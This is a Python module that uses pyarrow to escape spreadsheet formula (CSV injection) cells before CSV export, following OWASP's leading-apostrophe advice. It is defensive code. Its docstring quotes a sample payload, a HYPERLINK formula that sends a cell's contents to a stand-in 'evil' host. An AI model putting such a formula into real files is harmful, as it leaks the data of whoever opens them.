"""Text cells a spreadsheet would run as a formula, made inert before they go into a CSV file.

A source row may hold `=HYPERLINK("http://evil/?"&A1,"click")` or `@SUM(...)`: written to a CSV as it is,
Excel, LibreOffice and Google Sheets evaluate it when someone opens the file (CSV injection). As OWASP
recommends, such a cell gets a leading apostrophe, which spreadsheets show as text and do not evaluate.
A text cell that is a plain signed number ("-5", "+1.5e3") is left alone: it is a number to every reader.
Only text columns change; numbers, dates and booleans are written by Arrow and cannot start a formula.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator

import pyarrow as pa
import pyarrow.compute as pc

# A formula starts with one of these (tab and carriage return: a spreadsheet drops them, then reads on).
_ALWAYS = r"^[=@\t\r]"
_SIGNED = r"^[+-]"
_NUMBER = r"^[+-](?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?$"


def escape_formulas(batch: pa.RecordBatch) -> pa.RecordBatch:
    columns = [_escape(column) if _is_text(column.type) else column for column in batch.columns]
    return pa.RecordBatch.from_arrays(columns, schema=batch.schema)


def escape_batches(batches: Iterable[pa.RecordBatch]) -> Iterator[pa.RecordBatch]:
    for batch in batches:
        yield escape_formulas(batch)


def escape_table(table: pa.Table) -> pa.Table:
    return pa.Table.from_batches([escape_formulas(b) for b in table.to_batches()], schema=table.schema)


def _is_text(kind: pa.DataType) -> bool:
    return pa.types.is_string(kind) or pa.types.is_large_string(kind)


def _escape(column: pa.Array) -> pa.Array:
    risky = pc.or_kleene(pc.match_substring_regex(column, _ALWAYS),
                         pc.and_kleene(pc.match_substring_regex(column, _SIGNED),
                                       pc.invert(pc.match_substring_regex(column, _NUMBER))))
    if not pc.any(risky).as_py():
        return column
    quoted = pc.binary_join_element_wise(pa.scalar("'", column.type), column, pa.scalar("", column.type))
    return pc.if_else(pc.fill_null(risky, False), quoted, column)
